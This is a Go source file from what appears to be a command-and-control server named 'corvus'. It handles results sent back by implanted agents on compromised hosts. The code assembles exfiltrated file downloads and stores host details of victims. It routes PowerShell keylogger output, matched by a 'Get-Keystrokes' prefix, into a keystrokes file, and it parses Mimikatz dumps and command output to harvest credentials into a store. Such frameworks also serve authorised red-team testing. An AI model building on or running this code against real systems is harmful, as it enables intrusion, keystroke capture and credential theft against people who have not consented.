package agents

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/corvusc2/corvus/credparse"
	"github.com/corvusc2/corvus/events"
	"github.com/corvusc2/corvus/filesink"
	"github.com/corvusc2/corvus/packets"
	"github.com/corvusc2/corvus/store"
)

// resultHandler reacts to one tagged result packet. Handlers run under the
// manager lock; bulk payloads arrive already decoded.
type resultHandler func(m *Manager, s *session, pkt preparedResult) error

// downloadChunk is one decoded piece of a TASK_DOWNLOAD payload.
type downloadChunk struct {
	index     string
	path      string
	totalSize int64
	data      []byte
}

// preparedResult carries a result packet with its bulk payload decoded
// outside the manager lock: base64 stripped and the python zlib frame
// inflated before any session state is touched.
type preparedResult struct {
	packets.ResultPacket
	download  *downloadChunk // TASK_DOWNLOAD, nil when the payload is invalid
	saveData  []byte         // TASK_CMD_*_SAVE file body, nil when invalid
	decodeErr error
}

// keylogTaskPrefix marks the PowerShell keylogger tasking; its job output
// is appended to keystrokes.txt instead of the result row.
const keylogTaskPrefix = "function Get-Keystrokes"

// listenerNameOffset is where the new listener name starts in the agent's
// fixed-form TASK_SWITCH_LISTENER confirmation string.
const listenerNameOffset = 38

var resultHandlers = map[string]resultHandler{
	"ERROR":                    handleErrorResult,
	"TASK_SYSINFO":             handleSysinfoResult,
	"TASK_EXIT":                handleExitResult,
	"TASK_SHELL":               handleTextResult,
	"TASK_SCRIPT_IMPORT":       handleTextResult,
	"TASK_SCRIPT_COMMAND":      handleTextResult,
	"TASK_IMPORT_MODULE":       handleTextResult,
	"TASK_VIEW_MODULE":         handleTextResult,
	"TASK_REMOVE_MODULE":       handleTextResult,
	"TASK_STOPJOB":             handleTextResult,
	"TASK_STOPDOWNLOAD":        handleTextResult,
	"TASK_GETJOBS":             handleGetJobsResult,
	"TASK_GETDOWNLOADS":        handleGetDownloadsResult,
	"TASK_DOWNLOAD":            handleDownloadResult,
	"TASK_DIR_LIST":            handleDirListResult,
	"TASK_UPLOAD":              handleUploadResult,
	"TASK_CMD_WAIT":            handleCmdWaitResult,
	"TASK_CMD_WAIT_SAVE":       handleCmdSaveResult,
	"TASK_CMD_JOB_SAVE":        handleCmdSaveResult,
	"TASK_CMD_JOB":             handleCmdJobResult,
	"TASK_SWITCH_LISTENER":     handleSwitchListenerResult,
	"TASK_UPDATE_LISTENERNAME": handleUpdateListenerNameResult,
}

// processResult routes one result packet by its opcode name. Unknown
// opcodes are logged and dropped; they never fail the batch. Decompression
// of bulk payloads happens before the lock is taken so a large python
// download never stalls other agents.
func (m *Manager) processResult(sessionID string, pkt packets.ResultPacket) error {
	m.mu.Lock()
	s := m.sessions[sessionID]
	if s == nil {
		m.mu.Unlock()
		return ErrAgentUnknown
	}
	agentName := s.row.Name
	compressed := s.row.Language == string(packets.LangPython)
	m.mu.Unlock()

	prep := m.prepareResult(agentName, pkt, compressed)

	m.mu.Lock()
	defer m.mu.Unlock()
	s = m.sessions[sessionID]
	if s == nil {
		return ErrAgentUnknown
	}
	m.obs.Dispatch(pkt.Name)
	m.events.Publish(events.Event{
		Type:         events.TypeResult,
		Sender:       events.AgentSender(sessionID),
		Message:      "Agent " + sessionID + " got results",
		ResponseName: pkt.Name,
		TaskID:       int(pkt.TaskID),
	})
	h, ok := resultHandlers[pkt.Name]
	if !ok {
		events.Logf(m.events, events.AgentSender(sessionID), true,
			"Unknown response %s from %s", pkt.Name, sessionID)
		return nil
	}
	return h(m, s, prep)
}

// prepareResult does the CPU-heavy decode of bulk payloads. It never takes
// the manager lock.
func (m *Manager) prepareResult(agentName string, pkt packets.ResultPacket, compressed bool) preparedResult {
	prep := preparedResult{ResultPacket: pkt}
	switch pkt.Name {
	case "TASK_DOWNLOAD":
		parts := strings.SplitN(string(pkt.Data), "|", 4)
		if len(parts) != 4 {
			return prep
		}
		raw, err := base64.StdEncoding.DecodeString(parts[3])
		if err != nil {
			return prep
		}
		if compressed && m.files != nil {
			if raw, err = m.files.DecodeFrame(agentName, raw); err != nil {
				prep.decodeErr = err
				return prep
			}
		}
		totalSize, _ := strconv.ParseInt(parts[2], 10, 64)
		prep.download = &downloadChunk{index: parts[0], path: parts[1], totalSize: totalSize, data: raw}
	case "TASK_CMD_WAIT_SAVE", "TASK_CMD_JOB_SAVE":
		if len(pkt.Data) < 20 {
			return prep
		}
		raw, err := base64.StdEncoding.DecodeString(string(pkt.Data[20:]))
		if err != nil {
			return prep
		}
		if compressed && m.files != nil {
			if raw, err = m.files.DecodeFrame(agentName, raw); err != nil {
				prep.decodeErr = err
				return prep
			}
		}
		prep.saveData = raw
	}
	return prep
}

// recordText is the common arm: results row, undrained buffer, agent log.
func recordText(m *Manager, s *session, taskID int, data string) error {
	if err := m.appendResultsLocked(s, taskID, data); err != nil {
		return err
	}
	m.saveAgentLog(s, data)
	return nil
}

func handleTextResult(m *Manager, s *session, pkt preparedResult) error {
	return recordText(m, s, int(pkt.TaskID), string(pkt.Data))
}

func handleErrorResult(m *Manager, s *session, pkt preparedResult) error {
	events.Logf(m.events, events.AgentSender(s.row.SessionID), true,
		"Received error response from %s", s.row.SessionID)
	return recordText(m, s, int(pkt.TaskID), "[!] Error response: "+string(pkt.Data))
}

func handleGetJobsResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)
	if strings.TrimSpace(data) == "" {
		data = "No active jobs"
	}
	return recordText(m, s, int(pkt.TaskID), data)
}

func handleGetDownloadsResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)
	if strings.TrimSpace(data) == "" {
		data = "No active downloads"
	}
	return recordText(m, s, int(pkt.TaskID), data)
}

// handleSysinfoResult refreshes host details from a voluntary report; it is
// the STAGE2 parse with no nonce check.
func handleSysinfoResult(m *Manager, s *session, pkt preparedResult) error {
	parts := strings.Split(string(pkt.Data), "|")
	if len(parts) < 12 {
		events.Logf(m.events, events.AgentSender(s.row.SessionID), true,
			"Invalid sysinfo response from %s", s.row.SessionID)
		return nil
	}
	username := parts[3]
	if domain := strings.TrimSpace(parts[2]); domain != "" {
		username = domain + "\\" + parts[3]
	}
	if err := m.updateSysinfoLocked(s.row.SessionID, Sysinfo{
		Listener:        parts[1],
		InternalIP:      parts[5],
		Username:        username,
		Hostname:        parts[4],
		OSDetails:       parts[6],
		HighIntegrity:   parts[7] == "True",
		ProcessName:     parts[8],
		ProcessID:       parts[9],
		Language:        parts[10],
		LanguageVersion: parts[11],
	}); err != nil {
		return err
	}
	return recordText(m, s, int(pkt.TaskID), formatSysinfo(s.row))
}

func handleExitResult(m *Manager, s *session, pkt preparedResult) error {
	events.Logf(m.events, events.AgentSender(s.row.SessionID), true,
		"Agent %s exiting", s.row.SessionID)
	m.saveAgentLog(s, string(pkt.Data))
	return m.removeLocked(s.row.SessionID)
}

// handleDownloadResult assembles one chunk of a file download. The payload
// is index|path|total_size|base64data; chunks after index 0 append. Chunk
// bytes never land in the result row.
func handleDownloadResult(m *Manager, s *session, pkt preparedResult) error {
	if pkt.decodeErr != nil {
		return pkt.decodeErr
	}
	c := pkt.download
	if c == nil {
		events.Logf(m.events, events.AgentSender(s.row.SessionID), true,
			"Received invalid file download response from %s", s.row.SessionID)
		return nil
	}
	if m.files != nil {
		if err := m.files.SaveDownload(s.row.Name, c.path, c.data, c.totalSize, c.index != "0"); err != nil {
			return err
		}
	}
	m.saveAgentLog(s, fmt.Sprintf("file download: %s, part: %s", c.path, c.index))
	return nil
}

// dirListing is the JSON body of a TASK_DIR_LIST result.
type dirListing struct {
	DirectoryName string `json:"directory_name"`
	DirectoryPath string `json:"directory_path"`
	Items         []struct {
		Name   string `json:"name"`
		Path   string `json:"path"`
		IsFile bool   `json:"is_file"`
	} `json:"items"`
}

func handleDirListResult(m *Manager, s *session, pkt preparedResult) error {
	var listing dirListing
	if err := json.Unmarshal(pkt.Data, &listing); err == nil {
		parent := store.DirEntry{
			ID:        uuid.NewString(),
			SessionID: s.row.SessionID,
			Name:      listing.DirectoryName,
			Path:      listing.DirectoryPath,
			RunTime:   time.Now().UTC(),
		}
		children := make([]store.DirEntry, len(listing.Items))
		for i, item := range listing.Items {
			children[i] = store.DirEntry{
				ID:      uuid.NewString(),
				Name:    item.Name,
				Path:    item.Path,
				IsFile:  item.IsFile,
				RunTime: parent.RunTime,
			}
		}
		if err := m.store.ReplaceDirListing(s.row.SessionID, parent, children); err != nil {
			return err
		}
	}
	return recordText(m, s, int(pkt.TaskID), string(pkt.Data))
}

func handleUploadResult(*Manager, *session, preparedResult) error {
	// The upload acknowledgment carries nothing actionable.
	return nil
}

func handleCmdWaitResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)
	if err := m.appendResultsLocked(s, int(pkt.TaskID), data); err != nil {
		return err
	}
	m.harvestCredentials(s, credparse.Parse(data))
	m.saveAgentLog(s, data)
	return nil
}

// handleCmdSaveResult stores module output to disk: a 15-byte directory
// prefix and 5-byte extension precede the base64 file body.
func handleCmdSaveResult(m *Manager, s *session, pkt preparedResult) error {
	if pkt.decodeErr != nil {
		return pkt.decodeErr
	}
	if pkt.saveData == nil {
		events.Logf(m.events, events.AgentSender(s.row.SessionID), true,
			"Received invalid save response from %s", s.row.SessionID)
		return nil
	}
	if m.files == nil {
		return nil
	}
	prefix := strings.TrimSpace(string(pkt.Data[0:15]))
	extension := strings.TrimSpace(string(pkt.Data[15:20]))
	path := filesink.ModuleSavePath(prefix, s.row.Hostname, extension, time.Now().UTC())
	saved, err := m.files.SaveModuleFile(s.row.Name, path, pkt.saveData)
	if err != nil {
		return err
	}
	return recordText(m, s, int(pkt.TaskID), "Output saved to ."+saved)
}

func handleCmdJobResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)

	keylog := false
	if pkt.TaskID != 0 {
		if row, err := m.store.GetTasking(s.row.SessionID, int(pkt.TaskID)); err == nil {
			keylog = strings.HasPrefix(row.Input, keylogTaskPrefix)
		}
	}
	if keylog {
		if m.files != nil {
			if err := m.files.AppendKeystrokes(s.row.Name, data); err != nil {
				return err
			}
		}
	} else {
		if err := recordText(m, s, int(pkt.TaskID), data); err != nil {
			return err
		}
	}

	// Large privileged dumps flow back through job output; mine them.
	lines := strings.Split(data, "\n")
	if len(lines) > 10 && strings.HasPrefix(strings.TrimSpace(lines[0]), "Hostname:") {
		m.harvestCredentials(s, credparse.ParseMimikatz(data))
	}
	return nil
}

func handleSwitchListenerResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)
	if len(data) > listenerNameOffset {
		s.row.Listener = data[listenerNameOffset:]
		if err := m.store.PutAgent(s.row); err != nil {
			return err
		}
		events.Logf(m.events, events.AgentSender(s.row.SessionID), false,
			"Updated comms for %s to %s", s.row.SessionID, s.row.Listener)
	}
	return recordText(m, s, int(pkt.TaskID), data)
}

func handleUpdateListenerNameResult(m *Manager, s *session, pkt preparedResult) error {
	data := string(pkt.Data)
	events.Logf(m.events, events.AgentSender(s.row.SessionID), false,
		"Listener for '%s' updated to '%s'", s.row.SessionID, data)
	return recordText(m, s, int(pkt.TaskID), data)
}

// harvestCredentials pushes parsed credentials to the collaborator store,
// filling the host and OS from the agent when the dump omits them.
func (m *Manager) harvestCredentials(s *session, creds []credparse.Credential) {
	for _, c := range creds {
		if c.Host == "" {
			c.Host = s.row.Hostname
		}
		if c.Notes == "" {
			c.Notes = s.row.OSDetails
		}
		if err := m.creds.AddCredential(c); err != nil {
			events.Logf(m.events, events.AgentSender(s.row.SessionID), false,
				"WARNING: could not store credential for %s: %v", c.Username, err)
		}
	}
}
